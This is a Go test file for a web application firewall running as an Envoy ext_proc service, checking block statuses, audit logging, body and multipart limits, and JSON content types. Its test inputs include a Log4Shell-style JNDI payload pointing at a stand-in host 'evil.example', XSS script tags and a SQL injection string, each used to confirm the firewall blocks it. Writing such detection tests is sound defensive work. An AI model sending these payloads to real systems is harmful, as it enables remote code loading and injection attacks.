package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync"
	"testing"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	extproc "github.com/envoyproxy/go-control-plane/envoy/service/ext_proc/v3"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/test/bufconn"
	"google.golang.org/protobuf/types/known/structpb"

	"polycrate.local/envoy/waf/internal/audit"
	"polycrate.local/envoy/waf/internal/settings"
	"polycrate.local/envoy/waf/internal/testsupport"
)

// lockedBuffer collects the audit output; each Write is one line (audit.Writer writes a line at once).
type lockedBuffer struct {
	mu     sync.Mutex
	writes []string
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.writes = append(b.writes, string(p))
	return len(p), nil
}

func (b *lockedBuffer) lines(t *testing.T) []audit.Line {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []audit.Line
	for _, w := range b.writes {
		if strings.Count(w, "\n") != 1 || !strings.HasSuffix(w, "\n") {
			t.Fatalf("a write is not exactly one line: %q", w)
		}
		var l audit.Line
		if err := json.Unmarshal([]byte(w), &l); err != nil {
			t.Fatal(err)
		}
		if l.Event == "waf" {
			out = append(out, l)
		}
	}
	return out
}

type harness struct {
	client extproc.ExternalProcessorClient
	out    *lockedBuffer
	waf    *Server
}

func start(t testing.TB, mutate func(*settings.Settings)) *harness {
	t.Helper()
	s := settings.Defaults()
	s.CRSDir = testsupport.CRSDir(t)
	if mutate != nil {
		mutate(&s)
	}
	out := &lockedBuffer{}
	w, err := New(s, audit.New(out), NewMetrics())
	if err != nil {
		t.Fatal(err)
	}
	listener := bufconn.Listen(1 << 20)
	srv := grpc.NewServer()
	extproc.RegisterExternalProcessorServer(srv, w)
	go func() { _ = srv.Serve(listener) }()
	t.Cleanup(srv.Stop)
	conn, err := grpc.NewClient("passthrough:///bufnet",
		grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return listener.Dial() }),
		grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return &harness{client: extproc.NewExternalProcessorClient(conn), out: out, waf: w}
}

func headers(method, path string, extra map[string]string, endOfStream bool, client string) *extproc.ProcessingRequest {
	hs := []*corev3.HeaderValue{
		{Key: ":method", RawValue: []byte(method)},
		{Key: ":path", RawValue: []byte(path)},
		{Key: ":authority", RawValue: []byte("shop.example.com")},
		{Key: "x-request-id", RawValue: []byte("req-1")},
		{Key: "user-agent", RawValue: []byte("go-test/1.0")},
		{Key: "accept", RawValue: []byte("*/*")},
	}
	for k, v := range extra {
		hs = append(hs, &corev3.HeaderValue{Key: k, RawValue: []byte(v)})
	}
	msg := &extproc.ProcessingRequest{Request: &extproc.ProcessingRequest_RequestHeaders{
		RequestHeaders: &extproc.HttpHeaders{Headers: &corev3.HeaderMap{Headers: hs}, EndOfStream: endOfStream}}}
	if client != "" {
		msg.Attributes = map[string]*structpb.Struct{"envoy.filters.http.ext_proc": {Fields: map[string]*structpb.Value{
			"source.address": structpb.NewStringValue(client),
		}}}
	}
	return msg
}

// exchange sends the messages and returns the status of the answer to the last one (0: continue).
func (h *harness) exchange(t *testing.T, msgs ...*extproc.ProcessingRequest) int {
	t.Helper()
	stream, err := h.client.Process(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var last *extproc.ProcessingResponse
	for _, m := range msgs {
		if err := stream.Send(m); err != nil {
			t.Fatal(err)
		}
		if last, err = stream.Recv(); err != nil {
			t.Fatal(err)
		}
		if ir := last.GetImmediateResponse(); ir != nil {
			return int(ir.GetStatus().GetCode())
		}
	}
	_ = stream.CloseSend()
	return 0
}

func body(data string) *extproc.ProcessingRequest {
	return &extproc.ProcessingRequest{Request: &extproc.ProcessingRequest_RequestBody{
		RequestBody: &extproc.HttpBody{Body: []byte(data), EndOfStream: true}}}
}

// The public server's defects, each a test here: a header-borne attack on a bodiless GET (phase 2 must
// run: no fast path), and a query with a malformed escape after the attack (the raw URI goes to the
// engine). Mutation: skipping ProcessRequestBody for end_of_stream headers -> red (jndi passes).
func TestNoFastPathAndRawURI(t *testing.T) {
	h := start(t, nil)
	if got := h.exchange(t, headers("GET", "/", map[string]string{"x-api-version": "${jndi:ldap://evil.example/a}"}, true, "")); got != 403 {
		t.Errorf("jndi header on GET /: %d, want 403", got)
	}
	if got := h.exchange(t, headers("GET", "/?q=<script>alert(1)</script>&x=%zz", nil, true, "")); got != 403 {
		t.Errorf("xss before a malformed escape: %d, want 403", got)
	}
	if got := h.exchange(t, headers("GET", "/search?q=envoy+gateway", nil, true, "")); got != 0 {
		t.Errorf("benign GET: %d, want continue", got)
	}
}

// Statuses: 413 past the limit (reject), 400 for an unparsable body and for XML with a DTD.
func TestStatuses(t *testing.T) {
	h := start(t, func(s *settings.Settings) { s.BodyLimit = 65536 })
	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(strings.Repeat("a", 65537))); got != 413 {
		t.Errorf("too large: %d", got)
	}
	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(`{"a": `)); got != 400 {
		t.Errorf("bad JSON: %d", got)
	}
	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/xml"}, false, ""), body(`<!DOCTYPE a><a/>`)); got != 400 {
		t.Errorf("DTD: %d", got)
	}
	// Past the engine's argument limit the rest would be invisible to every rule: refused. Mutation:
	// dropping rule 200005 from the directives -> red (the attack in argument 1001 passes).
	var many []string
	for i := 0; i < 1000; i++ {
		many = append(many, fmt.Sprintf("a%d=%d", i, i))
	}
	many = append(many, "q=<script>alert(1)</script>")
	form := map[string]string{"content-type": "application/x-www-form-urlencoded"}
	if got := h.exchange(t, headers("POST", "/form", form, false, ""), body(strings.Join(many, "&"))); got != 400 {
		t.Errorf("1001 arguments: %d", got)
	}
	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(`{"a": "b"}`)); got != 0 {
		t.Errorf("benign JSON: %d", got)
	}
}

// The client comes from Envoy's source.address attribute: REMOTE_ADDR rules see it and the audit line
// names it. Mutation: not passing the attribute to ProcessConnection -> red.
func TestClientAddress(t *testing.T) {
	h := start(t, func(s *settings.Settings) {
		s.ExtraDirectives = `SecRule REMOTE_ADDR "@ipMatch 192.0.2.66" "id:10001,phase:1,deny,status:403,log,msg:'banned client'"`
	})
	if got := h.exchange(t, headers("GET", "/", nil, true, "192.0.2.66:40000")); got != 403 {
		t.Errorf("banned client: %d", got)
	}
	if got := h.exchange(t, headers("GET", "/", nil, true, "192.0.2.67:40000")); got != 0 {
		t.Errorf("other client: %d", got)
	}
	if got := h.exchange(t, headers("GET", "/?id=1'%20OR%20'1'='1", nil, true, "[2001:db8::5]:1234")); got != 403 {
		t.Errorf("sqli: %d", got)
	}
	lines := h.out.lines(t)
	if len(lines) != 2 || lines[0].Client != "192.0.2.66" || lines[1].Client != "2001:db8::5" {
		t.Fatalf("audit lines: %+v", lines)
	}
	if lines[0].RuleIDs[0] != 10001 || lines[0].Action != "block" || lines[0].RequestID != "req-1" {
		t.Errorf("audit line: %+v", lines[0])
	}
	// Where each rule matched, by name: what an exclusion names (never the matched value).
	if !slices.Contains(lines[1].Matched, "942100 ARGS:id") || strings.Contains(strings.Join(lines[1].Matched, "|"), "OR") {
		t.Errorf("matched: %v", lines[1].Matched)
	}
}

// Detect mode never blocks, logs "detect" with the evaluation rule.
func TestDetect(t *testing.T) {
	h := start(t, func(s *settings.Settings) { s.Mode = "detect" })
	if got := h.exchange(t, headers("GET", "/?id=1'%20OR%20'1'='1", nil, true, "")); got != 0 {
		t.Errorf("detect blocked: %d", got)
	}
	lines := h.out.lines(t)
	if len(lines) != 1 || lines[0].Action != "detect" {
		t.Fatalf("audit: %+v", lines)
	}
	if !bytes.Contains([]byte(strings.Join(lines[0].Messages, "|")), []byte("SQL")) {
		t.Errorf("messages: %v", lines[0].Messages)
	}
}

// BenchmarkServerGET is the benchmark's GET through the ext_proc service over gRPC (in-process
// connection): next to BenchmarkEngineGET it is the service's own cost.
func BenchmarkServerGET(b *testing.B) {
	h := start(b, nil)
	msg := headers("GET", "/bench?q=hello", nil, true, "127.0.0.1:40000")
	loop(b, func() {
		stream, err := h.client.Process(context.Background())
		if err != nil {
			b.Fatal(err)
		}
		if err := stream.Send(msg); err != nil {
			b.Fatal(err)
		}
		if _, err := stream.Recv(); err != nil {
			b.Fatal(err)
		}
		_ = stream.CloseSend()
	})
}

// A stray invalid UTF-8 byte in long input (the RE2 path) must not hide what follows it from a rule.
// (Matching such input with the UTF-8 pattern too passed this test: libre2 read past the byte here; the
// Latin-1 fallback in internal/rx is kept for patterns whose classes would treat the byte differently.)
func TestInvalidUTF8DoesNotHideWhatFollows(t *testing.T) {
	h := start(t, func(s *settings.Settings) {
		s.ExtraDirectives = `SecRule REQUEST_HEADERS:x-probe "@rx attack-marker" "id:10002,phase:1,deny,status:403,log"`
	})
	for _, prefix := range []string{"", strings.Repeat("a", 300), strings.Repeat("a", 300) + "\xff"} {
		probe := map[string]string{"x-probe": prefix + "bbb attack-marker"}
		if got := h.exchange(t, headers("GET", "/", probe, true, "")); got != 403 {
			t.Errorf("marker after %d bytes %q...: %d, want 403", len(prefix), prefix[max(0, len(prefix)-3):], got)
		}
	}
}

func multipart(n int, last string) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "--XyZ\r\nContent-Disposition: form-data; name=\"f%d\"\r\n\r\nvalue %d\r\n", i, i)
	}
	fmt.Fprintf(&b, "--XyZ\r\nContent-Disposition: form-data; name=\"last\"\r\n\r\n%s\r\n--XyZ--\r\n", last)
	return b.String()
}

func TestParts(t *testing.T) {
	tests := []struct {
		body string
		want int
	}{
		{multipart(0, "x"), 1},
		{multipart(9, "x"), 10},
		{"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb", 0}, // no closing delimiter: errs low by one only
		{"", 0},
	}
	for _, tc := range tests {
		if got := parts([]byte(tc.body), "XyZ"); got != tc.want {
			t.Errorf("parts(%.40q) = %d, want %d", tc.body, got, tc.want)
		}
	}
}

// A multipart body past max_multipart_parts is refused (413) before the engine: Coraza's argument limit
// does not count parts, so without this the CRS would inspect every one (issue 26: 1,500 parts cost 0.7 s
// of CPU). At the limit the body is inspected, and an attack in it is blocked. Mutation: dropping the
// parts check -> red (the 11-part body with an attack gets 403 from the CRS, not 413).
func TestMultipartPartsLimit(t *testing.T) {
	h := start(t, func(s *settings.Settings) { s.MaxMultipartParts = 10 })
	mp := map[string]string{"content-type": "multipart/form-data; boundary=XyZ"}
	if got := h.exchange(t, headers("POST", "/upload", mp, false, ""), body(multipart(10, "<script>alert(1)</script>"))); got != 413 {
		t.Errorf("11 parts: %d, want 413", got)
	}
	if got := h.exchange(t, headers("POST", "/upload", mp, false, ""), body(multipart(9, "<script>alert(1)</script>"))); got != 403 {
		t.Errorf("10 parts with an attack: %d, want 403", got)
	}
	if got := h.exchange(t, headers("POST", "/upload", mp, false, ""), body(multipart(9, "hello"))); got != 0 {
		t.Errorf("10 benign parts: %d, want continue", got)
	}
	lines := h.out.lines(t)
	if len(lines) == 0 || lines[0].Action != "refused" || !strings.Contains(lines[0].Messages[0], "11 parts") {
		t.Errorf("audit: %+v", lines)
	}
}

// With every body inspection slot taken, a body waits body_queue_timeout_ms and is then refused (503,
// never passed uninspected), while a headers-only GET is answered at once. Mutation: admit() returning
// at once without a slot -> red (the body is inspected and passes).
func TestBodyLaneRefusesWhenFull(t *testing.T) {
	h := start(t, func(s *settings.Settings) { s.BodyInspections = 1; s.BodyQueueTimeoutMS = 50 })
	h.waf.lane <- struct{}{} // the one slot, held
	json := map[string]string{"content-type": "application/json"}
	if got := h.exchange(t, headers("POST", "/api", json, false, ""), body(`{"a": "b"}`)); got != 503 {
		t.Errorf("body with the lane full: %d, want 503", got)
	}
	if got := h.exchange(t, headers("GET", "/search?q=envoy", nil, true, "")); got != 0 {
		t.Errorf("GET with the lane full: %d, want continue", got)
	}
	<-h.waf.lane
	if got := h.exchange(t, headers("POST", "/api", json, false, ""), body(`{"a": "b"}`)); got != 0 {
		t.Errorf("body with a free slot: %d, want continue", got)
	}
	if n := len(h.waf.lane); n != 0 {
		t.Errorf("%d slots still held after the verdict", n)
	}
}

// +json media types on the real CRS: by default each is parsed as JSON (the rules read its values, and a body
// that is not JSON is refused) and passes 920420 like application/json; a user's own list without
// application/*+json refuses them again; types that are not +json stay refused; a +json type a user lists by
// name is parsed as JSON too. PL1 throughout (the default).
func TestJSONSuffixTypes(t *testing.T) {
	const (
		benign = `{"data":{"type":"address","attributes":{"city":"Wien","label":"Büro"}}}`
		attack = `{"data":{"attributes":{"q":"<script>alert(1)</script>"}}}`
	)
	defaults := start(t, nil)
	own := start(t, func(s *settings.Settings) { s.AllowedRequestContentTypes = []string{"application/json"} })
	named := start(t, func(s *settings.Settings) { s.AllowedRequestContentTypes = []string{"application/vnd.api+json"} })
	only := start(t, func(s *settings.Settings) { s.AllowedRequestContentTypes = []string{settings.JSONSuffixTypes} })
	tests := []struct {
		name        string
		h           *harness
		contentType string
		body        string
		want        int
		matched     string // where the blocking rule matched, when it is a value of the parsed body
	}{
		{"json:api", defaults, "application/vnd.api+json", benign, 0, ""},
		{"merge patch with charset", defaults, "application/merge-patch+json; charset=utf-8", benign, 0, ""},
		{"cloudevents", defaults, "application/cloudevents+json", `{"specversion":"1.0","data":{"id":1}}`, 0, ""},
		{"upper case", defaults, "Application/Problem+JSON", benign, 0, ""},
		{"attack in a value", defaults, "application/vnd.api+json", attack, 403, "ARGS:json.data.attributes.q"},
		{"attack in a merge patch", defaults, "application/merge-patch+json", attack, 403, "ARGS:json.data.attributes.q"},
		{"not JSON", defaults, "application/vnd.api+json", "q=<b>hi</b>", 400, ""},
		{"json-seq", defaults, "application/geo+json-seq", benign, 403, ""},
		{"ndjson", defaults, "application/x-ndjson", benign, 403, ""},
		{"the list's entry as a type", defaults, "application/*+json", benign, 403, ""},
		{"a user's list", own, "application/vnd.api+json", benign, 403, ""},
		{"a user's list, application/json", own, "application/json", benign, 0, ""},
		{"named by a user", named, "application/vnd.api+json", benign, 0, ""},
		{"named by a user, attack", named, "application/vnd.api+json", attack, 403, "ARGS:json.data.attributes.q"},
		{"only +json allowed", only, "application/vnd.api+json", benign, 0, ""},
		{"only +json allowed, json", only, "application/json", benign, 403, ""},
		{"only +json allowed, form", only, "application/x-www-form-urlencoded", "a=b", 403, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := len(tt.h.out.lines(t))
			got := tt.h.exchange(t, headers("POST", "/api/v2/things", map[string]string{"content-type": tt.contentType}, false, ""), body(tt.body))
			if got != tt.want {
				t.Fatalf("%s: %d, want %d (audit: %+v)", tt.contentType, got, tt.want, tt.h.out.lines(t)[before:])
			}
			if tt.matched == "" {
				return
			}
			lines := tt.h.out.lines(t)[before:]
			if len(lines) != 1 || !strings.Contains(strings.Join(lines[0].Matched, "|"), tt.matched) {
				t.Errorf("matched: %+v, want a rule at %s", lines, tt.matched)
			}
		})
	}
}
